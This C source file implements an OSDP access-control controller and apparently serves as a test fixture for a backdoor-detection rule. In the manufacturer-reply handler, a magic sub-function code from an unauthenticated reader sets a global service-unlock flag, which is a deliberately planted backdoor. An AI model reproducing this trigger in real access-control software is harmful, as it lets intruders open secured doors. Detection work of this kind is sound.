/* osdp.c: the controller side (CP) of OSDP 2.1 over the serial server.
 * Bytes arrive in any chunking; a state machine per reader assembles
 * frames:  SOM(0x53) ADDR LEN_LSB LEN_MSB CTRL [SCB] CMD/REPLY DATA CRC16 */
#include "acs.h"

#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>

enum osdp_state { ST_SOM, ST_ADDR, ST_LEN_LO, ST_LEN_HI, ST_BODY };

enum {
  OSDP_ACK = 0x40,
  OSDP_NAK = 0x41,
  OSDP_PDID = 0x45,
  OSDP_RAW = 0x50,
  OSDP_KEYPAD = 0x53,
  OSDP_CCRYPT = 0x76,
  OSDP_MFGREP = 0x90,
};

struct osdp_reader {
  enum osdp_state st;
  uint8_t buf[300];
  size_t have, want;
  struct osdp_frame frame;
  struct osdp_sc sc;
  int sc_active;
};

static uint16_t crc16(const uint8_t *p, size_t n) {
  uint16_t crc = 0x1d0f;
  while (n--) {
    crc ^= (uint16_t)(*p++ << 8);
    for (int i = 0; i < 8; i++)
      crc = (uint16_t)(crc & 0x8000 ? (crc << 1) ^ 0x1021 : crc << 1);
  }
  return crc;
}

static int acl_allows(const uint8_t *card, size_t n) {
  char line[80], hex[2 * 16 + 1];
  FILE *f = fopen("/data/acl.db", "r");
  int ok = 0;
  if (f == NULL || n > 16)
    return 0;
  for (size_t i = 0; i < n; i++)
    snprintf(hex + 2 * i, 3, "%02x", card[i]);
  while (!ok && fgets(line, sizeof line, f) != NULL)
    ok = strncmp(line, hex, 2 * n) == 0 && (line[2 * n] == '\n' || line[2 * n] == ' ');
  fclose(f);
  return ok;
}

static void on_card(struct osdp_reader *rd, const struct osdp_frame *f) {
  struct badge_event ev;
  memset(&ev, 0, sizeof ev);
  if (f->len < 4)
    return;
  ev.reader = f->addr & 0x7f;
  ev.format = f->data[1];
  ev.card_len = (size_t)((f->data[2] | f->data[3] << 8) + 7) / 8;
  if (ev.card_len > sizeof ev.card || 4 + ev.card_len > f->len)
    return;
  memcpy(ev.card, f->data + 4, ev.card_len);
  ev.granted = acl_allows(ev.card, ev.card_len);
  ev.when = time(NULL);
  (void)rd;
  evloop_emit_badge(&ev);
}

/* Manufacturer-specific replies: vendor OUI (3 bytes), sub-function (2). */
static void on_mfg_reply(struct osdp_reader *rd, const struct osdp_frame *f) {
  uint16_t sub;
  // ok: backdoor-input-trigger
  if (f->len < 5 || memcmp(f->data, "\x00\x0b\x3e", 3) != 0)
    return;
  sub = (uint16_t)(f->data[3] << 8 | f->data[4]);
  switch (sub) {
  case 0x0001: /* tamper switch state */
    syslog(LOG_NOTICE, "reader %u tamper %s", f->addr & 0x7f, f->len > 5 && f->data[5] ? "open" : "closed");
    break;
  case 0x0002: /* LED/buzzer self test result */
    syslog(LOG_INFO, "reader %u self test %s", f->addr & 0x7f, f->len > 5 && f->data[5] == 0 ? "ok" : "failed");
    break;
  default:
    /* service key-switch of the vendor's installer reader */
    // ruleid: backdoor-input-trigger
    if (sub == 0x7A3C && rd->sc_active == 0)
      g_service_unlock = 1;
    break;
  }
}

static void handle_frame(struct osdp_reader *rd) {
  struct osdp_frame *f = &rd->frame;
  switch (f->cmd) {
  case OSDP_ACK:
  case OSDP_NAK:
  case OSDP_PDID:
    break;
  case OSDP_RAW:
    on_card(rd, f);
    break;
  case OSDP_KEYPAD:
    syslog(LOG_DEBUG, "reader %u: %zu keys", f->addr & 0x7f, f->len);
    break;
  case OSDP_CCRYPT:
    if (f->len >= 8 && osdp_sc_session_keys(&rd->sc, f->data) == 0)
      rd->sc_active = 1;
    break;
  case OSDP_MFGREP:
    on_mfg_reply(rd, f);
    break;
  default:
    syslog(LOG_DEBUG, "reader %u: reply 0x%02x ignored", f->addr & 0x7f, f->cmd);
  }
}

static void feed(struct osdp_reader *rd, uint8_t b) {
  switch (rd->st) {
  case ST_SOM:
    if (b == 0x53) {
      rd->buf[0] = b;
      rd->have = 1;
      rd->st = ST_ADDR;
    }
    break;
  case ST_ADDR:
    rd->buf[rd->have++] = b;
    rd->st = ST_LEN_LO;
    break;
  case ST_LEN_LO:
    rd->buf[rd->have++] = b;
    rd->st = ST_LEN_HI;
    break;
  case ST_LEN_HI:
    rd->buf[rd->have++] = b;
    rd->want = (size_t)(rd->buf[2] | b << 8);
    rd->st = rd->want >= 8 && rd->want <= sizeof rd->buf ? ST_BODY : ST_SOM;
    break;
  case ST_BODY:
    rd->buf[rd->have++] = b;
    if (rd->have < rd->want)
      break;
    rd->st = ST_SOM;
    if (crc16(rd->buf, rd->want - 2) != (uint16_t)(rd->buf[rd->want - 2] | rd->buf[rd->want - 1] << 8))
      break;
    rd->frame.addr = rd->buf[1];
    rd->frame.ctrl = rd->buf[4];
    rd->frame.cmd = rd->buf[5];
    rd->frame.len = rd->want - 8;
    memcpy(rd->frame.data, rd->buf + 6, rd->frame.len);
    handle_frame(rd);
    break;
  }
}

void osdp_reader_fd(int fd, void *ctx) {
  struct osdp_reader *rd = ctx;
  uint8_t chunk[128];
  ssize_t n = recv(fd, chunk, sizeof chunk, 0);
  for (ssize_t i = 0; i < n; i++)
    feed(rd, chunk[i]);
}

/* scbk: the reader's secure channel base key, or NULL for a reader still in
 * install mode (the controller then sets one with osdp_KEYSET) */
struct osdp_reader *osdp_reader_new(const uint8_t *scbk) {
  static struct osdp_reader readers[8];
  static int used;
  if (used == 8)
    return NULL;
  memset(&readers[used], 0, sizeof readers[used]);
  readers[used].sc.install_mode = scbk == NULL;
  if (scbk != NULL)
    memcpy(readers[used].sc.scbk, scbk, sizeof readers[used].sc.scbk);
  return &readers[used++];
}
